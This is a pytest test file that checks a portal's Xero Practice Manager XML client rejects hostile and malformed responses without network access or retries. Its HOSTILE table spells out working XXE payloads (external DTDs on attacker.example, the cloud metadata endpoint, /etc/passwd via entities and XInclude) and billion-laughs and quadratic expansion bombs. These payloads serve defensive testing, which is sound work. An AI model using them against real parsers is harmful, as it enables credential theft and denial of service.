"""Hostile and broken answers: each becomes a typed error within 2 s, with no connection
made anywhere (the only request is the mocked one) and nothing retried that cannot help."""

import socket
import time

import pytest

from portal.xpm import XpmBadResponse, XpmBusinessError, XpmNotFound, parse_document
from tests.xpm.conftest import XPM_URL, response_xml

GET_URL = XPM_URL + "client.api/get/abc"
OK_CLIENT = "<Client><UUID>abc</UUID><Name>Kōwhai</Name></Client>"

BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]><Response><Status>OK</Status><Name>&lol9;</Name></Response>"
)
QUADRATIC = (
    f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "{"a" * 50_000}">]>'
    f"<Response><Status>OK</Status><Name>{'&a;' * 50_000}</Name></Response>"
)
TEN_MEGABYTES = response_xml(f"<Client><UUID>abc</UUID><Name>{'x' * 10_485_760}</Name></Client>")
DEEP = "<Response><Status>OK</Status>" + "<a>" * 100_000 + "</a>" * 100_000 + "</Response>"

HOSTILE = {
    "inline DTD": "<!DOCTYPE Response [<!ELEMENT Response ANY>]>" + response_xml(OK_CLIENT),
    "external DTD": '<!DOCTYPE Response SYSTEM "http://attacker.example/evil.dtd">'
    + response_xml(OK_CLIENT),
    "external entity": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM '
    '"http://169.254.169.254/latest/meta-data/">]><Response><Status>OK</Status>'
    "<Client><Name>&xxe;</Name></Client></Response>",
    "file entity": '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    "<Response><Status>OK</Status><Client><Name>&xxe;</Name></Client></Response>",
    "parameter entity": '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd">'
    " %p;]><Response />",
    "billion laughs": BILLION_LAUGHS,
    "quadratic blow-up": QUADRATIC,
    "10 MB body": TEN_MEGABYTES,
    "deep nesting": DEEP,
    "truncated": response_xml(OK_CLIENT)[:60],
    "undeclared entity": response_xml("<Client><Name>&nbsp;</Name></Client>"),
    "wrong root": "<Clients><Client><UUID>abc</UUID></Client></Clients>",
    "namespaced root": '<x:Response xmlns:x="urn:x"><Status>OK</Status></x:Response>',
    "no status": "<Response>" + OK_CLIENT + "</Response>",
    "odd status": response_xml(OK_CLIENT, status="MAYBE"),
    "xinclude": '<Response xmlns:xi="http://www.w3.org/2001/XInclude">'
    '<xi:include href="file:///etc/passwd" parse="text"/></Response>',
    "HTML error page": "<!DOCTYPE html><html><head><title>Error</title></head>"
    "<body><h1>Something went wrong</h1></body></html>",
    "HTML without doctype": "<html><body>Sign in</body></html>",
    "not XML at all": "\x00\x01garbage",
    "empty body": "",
}


@pytest.fixture
def no_sockets(monkeypatch):
    """Records any attempt to open a connection (there must be none)."""
    attempts = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise AssertionError(f"an outbound connection was attempted: {args}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    return attempts


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_xml_is_a_typed_error_within_two_seconds(name, api, requests_mock, no_sockets):
    requests_mock.get(GET_URL, text=HOSTILE[name], headers={"Content-Type": "text/xml"})
    started = time.monotonic()
    with pytest.raises(XpmBadResponse) as raised:
        api.get("abc")
    assert time.monotonic() - started < 2
    assert requests_mock.call_count == 1  # nothing is retried: the same answer would come
    assert no_sockets == []
    assert raised.value.retryable is False
    assert "Xero Practice Manager" in str(raised.value)


def test_a_huge_declared_length_is_refused_before_the_body_is_read(api, requests_mock):
    requests_mock.get(
        GET_URL,
        content=TEN_MEGABYTES.encode(),
        headers={"Content-Length": str(len(TEN_MEGABYTES.encode()))},
    )
    with pytest.raises(XpmBadResponse, match="larger than 8,388,608 bytes"):
        api.get("abc")


def test_html_served_as_html_is_refused_even_when_it_looks_harmless(api, requests_mock):
    requests_mock.get(
        GET_URL, text=response_xml(OK_CLIENT), headers={"Content-Type": "text/html; charset=utf-8"}
    )
    with pytest.raises(XpmBadResponse, match="web page"):
        api.get("abc")


def test_status_error_is_a_business_error_not_retried(api, requests_mock):
    requests_mock.get(
        GET_URL,
        text=response_xml("<ErrorDescription>Client not found</ErrorDescription>", status="ERROR"),
    )
    with pytest.raises(XpmNotFound) as raised:
        api.get("abc")
    assert isinstance(raised.value, XpmBusinessError)
    assert requests_mock.call_count == 1


def test_the_caps_are_configurable():
    with pytest.raises(XpmBadResponse, match="nested deeper than 3"):
        parse_document(b"<Response><a><b><c /></b></a></Response>", max_depth=3)
    with pytest.raises(XpmBadResponse, match="larger than 10 bytes"):
        parse_document(b"<Response><Status>OK</Status></Response>", max_bytes=10)


ENCODINGS = {
    "UTF-7": '<?xml version="1.0" encoding="UTF-7"?>',
    "Shift_JIS": "<?xml version='1.0' encoding='Shift_JIS'?>",
    "an unknown name": '<?xml version="1.0" encoding="x-no-such-encoding"?>',
    "Latin-1": '<?xml version="1.0" encoding="ISO-8859-1"?>',
    "an empty name": '<?xml version="1.0" encoding=""?>',
}


@pytest.mark.parametrize("name", ENCODINGS)
def test_any_declared_encoding_but_utf8_is_a_typed_error(name, api, requests_mock):
    body = ENCODINGS[name] + response_xml(OK_CLIENT)
    requests_mock.get(GET_URL, content=body.encode(), headers={"Content-Type": "text/xml"})
    with pytest.raises(XpmBadResponse, match="not UTF-8") as raised:
        api.get("abc")
    assert requests_mock.call_count == 1
    assert "Xero Practice Manager sent a response the portal could not read" in str(raised.value)


@pytest.mark.parametrize(
    "body",
    [
        "\ufeff" + response_xml(OK_CLIENT),  # UTF-16 with its byte-order mark
        response_xml(OK_CLIENT),
    ],
)
def test_utf16_is_refused_by_its_byte_order_mark_or_as_broken_xml(api, requests_mock, body):
    requests_mock.get(GET_URL, content=body.encode("utf-16-le" if body[0] != "<" else "utf-16"))
    with pytest.raises(XpmBadResponse):
        api.get("abc")


def test_a_charset_other_than_utf8_in_the_header_is_refused(api, requests_mock):
    requests_mock.get(
        GET_URL,
        content=response_xml(OK_CLIENT).encode(),
        headers={"Content-Type": "text/xml; charset=Shift_JIS"},
    )
    with pytest.raises(XpmBadResponse, match="Shift_JIS, not UTF-8"):
        api.get("abc")


@pytest.mark.parametrize(
    ("declaration", "content_type"),
    [
        ('<?xml version="1.0" encoding="utf-8"?>', "text/xml; charset=utf-8"),
        ("\ufeff<?xml version='1.0' encoding='UTF8'?>\n", 'text/xml; charset="UTF-8"'),
        ('<?xml version="1.0"?>', "application/xml"),
    ],
)
def test_utf8_however_declared_is_read(api, requests_mock, declaration, content_type):
    body = declaration + response_xml(OK_CLIENT)
    requests_mock.get(GET_URL, content=body.encode(), headers={"Content-Type": content_type})
    assert api.get("abc").name == "Kōwhai"
